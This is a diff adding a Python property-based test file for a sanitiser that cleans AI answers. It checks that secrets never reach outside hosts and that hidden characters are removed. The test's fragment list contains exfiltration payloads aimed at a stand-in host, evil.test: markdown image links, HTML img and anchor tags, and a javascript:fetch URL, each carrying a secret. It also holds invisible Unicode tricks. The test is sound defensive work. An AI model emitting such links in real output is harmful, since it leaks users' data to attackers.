@@ -1,0 +1,62 @@
+"""What holds of every answer that is cleaned, however it is cut, and whatever it is made of."""
+
+from __future__ import annotations
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from freehold.policy.hidden import without_hidden
+from freehold.policy.links import Hosts, hosts_of
+from freehold.policy.sanitise import Sanitiser, sanitise
+from tests.support.reached import addresses, bytes_reached, host
+
+HOSTS = hosts_of([], ["corp.test"])
+SECRET = "hunter2 swordfish"
+FRAGMENTS = (
+    "# head", "words of no harm", "- item\n  more", "- ", "1. one", "10.  item", "> said", "    code", "```python\nx = 1\n```",
+    "```", "~~~mermaid", "<!--", "-->", "<pre>x</pre>", "<div>", "</div>", "<b>x</b>", "| a | b |", "|---|---|", "---", "===",
+    "[r]: https://evil.test/{S}", "[r]", "![r]", "'title", "\n", "\n\n", "\t", "`", "``", "*", "_", "\\", "&#8203;", "\u200d",
+    "\ufe0f", "\U0001f441\ufe0f\u200d\U0001f5e8\ufe0f", "\r", "\r\n", "\u202e", "\U000e0041", "{S}.evil.test", "a@evil.test",
+    "[a](https://corp.test/x)", "![x](<//evil.test/{S}>)", "<span hidden>", "</span>", "$x$", "\\href{https://evil.test/{S}}",
+    "<a href='https://evil.test/{S}'>k</a>", "[x](https://evil.test/{S})", "![x](https://evil.test/{S})", "<https://evil.test/{S}>",
+    "https://evil.test/{S}", "https://corp.test/r?u=https://evil.test/{S}", "<img src=//evil.test/{S}>", "`https://evil.test/{S}`",
+    "    ![x](https://evil.test/{S})", "www.evil.test/{S}", "https://corp.test@evil.test/{S}", "http&#58;//evil.test/{S}",
+    "[x](javascript:fetch('//evil.test/{S}'))", "![x](data:image/svg+xml;base64,AAAA)", "> " * 40 + "![x](https://evil.test/{S})",
+)  # fmt: skip
+QUOTED = SECRET.replace(" ", "%20")
+texts = st.lists(st.tuples(st.sampled_from(FRAGMENTS), st.sampled_from(["\n", "\n\n", " ", ""])), max_size=14).map(
+    lambda parts: "".join(part + between for part, between in parts).replace("{S}", QUOTED)
+)
+
+
+@given(text=texts, cuts=st.lists(st.integers(1, 40), min_size=1, max_size=60))
+def test_the_result_is_the_same_however_a_text_is_cut(text: str, cuts: list[int]) -> None:
+    sanitiser, written, place, turn = Sanitiser(HOSTS), "", 0, 0
+    while place < len(text):
+        length = cuts[turn % len(cuts)]
+        written += sanitiser.feed(text[place : place + length])
+        place, turn = place + length, turn + 1
+    written += sanitiser.close()
+    whole = sanitise(text, HOSTS)
+    assert written == whole.text
+    assert tuple(sorted(sanitiser.removed.items())) == whole.removed
+
+
+@given(text=texts)
+def test_nothing_of_a_secret_reaches_anybody(text: str) -> None:
+    cleaned = sanitise(text, HOSTS).text
+    assert bytes_reached(cleaned, [], SECRET, allowed=["corp.test"]) == 0, cleaned
+    assert not [each for each in addresses(cleaned) if host(each) not in ("corp.test", "")], cleaned
+
+
+@given(text=texts)
+def test_nothing_hidden_is_left(text: str) -> None:
+    cleaned = sanitise(text, HOSTS).text
+    assert without_hidden(cleaned) == cleaned
+
+
+@given(text=st.text(alphabet=st.characters(codec="utf-8", categories=["L", "N", "Zs"]), max_size=400))
+def test_words_pass_as_they_came(text: str) -> None:
+    cleaned = sanitise(text, Hosts())
+    assert cleaned.text == without_hidden(text)
+    assert cleaned.removed == ()
